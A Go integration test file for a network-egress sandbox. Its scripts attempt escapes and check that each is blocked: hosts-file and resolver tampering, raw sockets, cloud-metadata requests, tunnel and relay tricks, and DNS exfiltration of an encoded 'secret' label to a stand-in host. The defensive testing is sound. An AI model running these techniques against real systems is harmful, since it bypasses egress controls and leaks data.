package integration

import (
	"fmt"
	"net"
	"os/exec"
	"strings"
	"testing"
	"time"
)

// The attack cases that need the whole path from a command to the internet. Packages proxy and netns test
// the others.

// TestEscapeN1N28NoOtherWay checks that a program gains no access by changing its environment, its hosts file or
// its resolv.conf (N1, N28). All addresses lead only to the gateway.
func TestEscapeN1N28NoOtherWay(t *testing.T) {
	onInternet(t, func(n *internet) {
		program(n, "python3")
		r := n.inside(`
echo "8.2.2.2 dark.test" >> /etc/hosts
echo "8.1.1.1 dark.test" >> /etc/hosts
echo "198.19.0.1 dark.test" >> /etc/hosts
echo "nameserver 8.9.9.9" > /etc/resolv.conf
for at in 8.2.2.2 8.1.1.1 198.18.0.1 198.19.200.200 127.0.0.1 8.0.0.1 169.254.169.254; do
  env -i /usr/bin/curl -sS -m 20 --noproxy '*' http://$at/ && echo got through to $at
done
env -i /usr/bin/curl -sS -m 20 http://dark.test/ && echo got through by name
ip route add default via 198.18.0.1 2>/dev/null && echo has a route
python3 - <<'E'
import socket
for f, k in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET6, socket.SOCK_RAW)):
    try: socket.socket(f, k, 1); print("has a raw socket")
    except OSError: pass
E
true`, "--allow-domain", "good.test")
		if r.code != 0 || r.stdout != "" || len(n.seen) > 0 {
			n.Errorf("another way: %+v; seen %q", r, n.seen)
		}
	})
}

// TestEscapeN7N10Tunnel checks that a tunnel to one name cannot be used for another, and that port 443 accepts
// only TLS (N7, N10).
func TestEscapeN7N10Tunnel(t *testing.T) {
	onLevels(t, func(n *internet) {
		program(n, "curl")
		for _, way := range []string{"", "--noproxy '*'"} {
			r := n.inside(`curl -sS -m 20 -k `+way+` --connect-to dark.test:443:good.test:443 https://dark.test/ && echo through
curl -sS -m 20 `+way+` http://good.test:443/ && echo through
true`, "--allow-domain", "good.test:443")
			if strings.Contains(r.stdout, "hello") || n.heard("dark.test") || n.heard("good.test") {
				n.Errorf("%q: %+v; seen %q", way, r, n.seen)
			}
		}
	})
}

// TestEscapeN11N14Rebound checks names that resolve to this machine, or to cloud metadata servers (N11, N13,
// N14).
func TestEscapeN11N14Rebound(t *testing.T) {
	onLevels(t, func(n *internet) {
		for _, way := range []string{"", "--noproxy '*'"} {
			r := n.inside(`for url in http://own.test/ http://inner.test:5432/ http://meta.test/; do curl -sS -m 20 `+way+` $url; done; true`,
				"--allow-domain", "own.test", "--allow-domain", "inner.test:5432", "--allow-domain", "meta.test")
			if strings.Contains(r.stdout, "hello") || len(n.seen) > 0 {
				n.Errorf("%q: %+v; seen %q", way, r, n.seen)
			}
			for _, why := range []string{"this host", "loopback", "metadata"} {
				if !strings.Contains(r.stderr, why) {
					n.Errorf("%q says no %q: %s", way, why, r.stderr)
				}
			}
		}
		if r := n.inside("curl -sS http://own.test/", "--allow-domain", "own.test", "--allow-domain", "8.0.0.1"); r.stdout != "hello from own.test\n" {
			n.Errorf("named by a rule: %+v", r)
		}
	})
}

// TestEscapeN34Routed checks that addresses made local by a route count as this machine's, though no interface
// has them (N34).
func TestEscapeN34Routed(t *testing.T) {
	onLevels(t, func(n *internet) {
		ip := program(n, "ip")
		for _, args := range []string{"route add local 9.8.0.0/16 dev lo", "-6 route add local 2a00:1450:9::/64 dev lo"} {
			if out, err := exec.Command(ip, strings.Fields(args)...).CombinedOutput(); err != nil {
				n.Fatalf("ip %s: %v: %s", args, err, out)
			}
		}
		n.peers("9.8.7.6 vip.test\n2a00:1450:9::5 vip6.test\n")
		go n.echo(n.listen("[::]:7777"))
		script := `for url in http://vip.test:7777/ http://vip6.test:7777/; do curl -sS -m 20 $url; curl -sS -m 20 --noproxy '*' $url; done
for url in http://9.8.7.6:7777/ 'http://[2a00:1450:9::5]:7777/'; do curl -g -sS -m 20 $url; done; true`
		r := n.inside(script, "--egress", "open", "--allow-open-with-inputs")
		if len(n.seen) > 0 || strings.Count(r.stderr, "this host") != 4 {
			n.Errorf("%+v; seen %q", r, n.seen)
		}
		n.inside("curl -sS -m 20 http://vip.test:7777/", "--allow-domain", "vip.test:7777", "--allow-domain", "9.8.0.0/16:7777")
		if !n.heard("tcp 9.8.7.6:7777") {
			n.Errorf("named by a rule: seen %q", n.seen)
		}
	})
}

// TestEscapeN16N18DNS checks that no query for a name that is not allowed leaves the sandbox, through any name
// server (N16, N18).
func TestEscapeN16N18DNS(t *testing.T) {
	onLevels(t, func(n *internet) {
		program(n, "python3")
		asked := n.nameServer("8.9.9.9:53")
		n.inside(`
for name in c2VjcmV0.dark.test c2VjcmV0.good.test; do
  getent hosts $name; getent ahostsv6 $name
  curl -sS -m 20 http://$name/; curl -sS -m 20 --noproxy '*' http://$name/
  curl -sS -m 20 --socks5-hostname 198.18.0.1:3128 http://$name/
done
curl -sS -m 20 -k https://8.9.9.9/dns-query?name=c2VjcmV0
python3 - <<'E'
import socket, struct
name = b"".join(bytes([len(l)]) + l for l in b"c2VjcmV0.dark.test".split(b".")) + b"\0"
for kind in (1, 5, 10, 12, 15, 16, 28, 33, 65, 255):
    q = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + name + struct.pack(">HH", kind, 1)
    for server in ("198.18.0.1", "8.9.9.9", "1.1.1.1"):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5)
        try: s.sendto(q, (server, 53)); s.recv(512)
        except OSError: pass
    try:
        s = socket.create_connection(("198.18.0.1", 53), 1); s.sendall(struct.pack(">H", len(q)) + q); s.recv(512)
    except OSError: pass
E`, "--allow-domain", "good.test")
		select {
		case q := <-asked:
			n.Errorf("a query left: %q", q)
		default:
		}
	})
}

// nameServer returns a channel of the queries it receives, and answers none.
func (n *internet) nameServer(at string) <-chan string {
	n.Helper()
	var c net.PacketConn
	var err error
	n.at(at, func() { c, err = net.ListenPacket("udp", at) })
	if err != nil {
		n.Fatal(err)
	}
	n.Cleanup(func() { c.Close() })
	asked := make(chan string, 100)
	go func() {
		b := make([]byte, 1500)
		for {
			k, _, err := c.ReadFrom(b)
			if err != nil {
				return
			}
			asked <- string(b[:k])
		}
	}()
	return asked
}

// TestEscapeN20RefusedAtOnce checks that UDP is refused at once, so that QUIC clients fall back to TCP (N20).
func TestEscapeN20RefusedAtOnce(t *testing.T) {
	onInternet(t, func(n *internet) {
		program(n, "python3")
		r := n.inside(`python3 - <<'E'
import socket
for host in ("good.test", "8.1.1.1", "198.18.0.1"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
    try:
        s.connect((host, 443)); s.send(b"quic"); s.recv(10); print("answered")
    except socket.timeout: print("left to wait")
    except OSError as e: print("refused")
E`, "--allow-domain", "good.test")
		if r.stdout != "refused\nrefused\nrefused\n" {
			n.Errorf("UDP: %+v", r)
		}
	})
}

// TestEscapeN19N21Apart checks that two sandboxes cannot reach each other, neither at their addresses nor through
// their gateways (N19, N21). A relay in a sandbox is subject to that sandbox's policy.
func TestEscapeN19N21Apart(t *testing.T) {
	onInternet(t, func(n *internet) {
		server := n.command("demesne", "run", "--name", "server", "--allow-domain", "dark.test", "--", "python3", "-c", `
import socket
l = socket.create_server(("", 7000)); print("up", flush=True); l.accept(); print("met")`)
		stop := n.start(server, "up")
		r := n.inside(`
for at in 198.18.0.1 198.18.0.2 198.18.0.3 198.18.0.5 198.18.0.6 198.19.0.1; do
  curl -sS -m 20 --noproxy '*' http://$at:7000/ && echo met at $at
done
getent hosts dark.test && echo resolved
curl -sS -m 20 http://dark.test/
python3 -c '
import socket, os
l = socket.create_server(("127.0.0.1", 3128))
if os.fork(): os._exit(0)
c, _ = l.accept(); up = socket.create_connection(("198.18.0.1", 3128)); up.sendall(c.recv(4096)); c.sendall(up.recv(4096)); c.close()'
curl -sS -m 20 -x http://127.0.0.1:3128 http://dark.test/; true`, "--allow-domain", "good.test")
		if strings.Contains(r.stdout, "met") || strings.Contains(r.stdout, "resolved") || strings.Contains(r.stdout, "hello") || n.heard("dark.test") {
			n.Errorf("met: %+v; seen %q", r, n.seen)
		}
		if strings.Count(r.stdout, "blocked by demesne: dark.test:80: no rule") != 2 {
			n.Errorf("verdicts: %+v", r)
		}
		stop()
	})
}

// TestEscapeN22N23NobodyElse checks that a gateway listens nowhere on the host, and that a proxy does not connect
// to itself (N22, N23).
func TestEscapeN22N23NobodyElse(t *testing.T) {
	onInternet(t, func(n *internet) {
		before := listening(n)
		cmd := n.command("demesne", "run", "--name", "box", "--allow-domain", "good.test", "--allow-domain", "198.18.0.0/15", "--", "sh", "-c",
			"curl -sS -m 20 -x http://198.18.0.1:3128 http://198.18.0.1:3128/ | grep -q 'could not reach\\|blocked' && echo kept; exec sleep 60")
		stop := n.start(cmd, "kept")
		if now := listening(n); now != before {
			n.Errorf("listens on the host:\n%s\nbefore:\n%s", now, before)
		}
		for _, at := range []string{"198.18.0.1:3128", "198.18.0.2:3128", "127.0.0.1:3128"} {
			if c, err := net.DialTimeout("tcp", at, 500*time.Millisecond); err == nil {
				c.Close()
				n.Errorf("%s is reached from the host", at)
			}
		}
		stop()
	})
}

// listening lists the listening sockets of the machine's network namespace.
func listening(n *internet) string {
	n.Helper()
	out := ""
	for _, kind := range []string{"tcp", "tcp6", "udp", "udp6"} {
		for _, line := range lines(n, "/proc/self/net/"+kind) {
			f := strings.Fields(line)
			if len(f) > 3 && (f[3] == "0A" || f[3] == "07") {
				out += fmt.Sprintln(kind, f[1])
			}
		}
	}
	return out
}
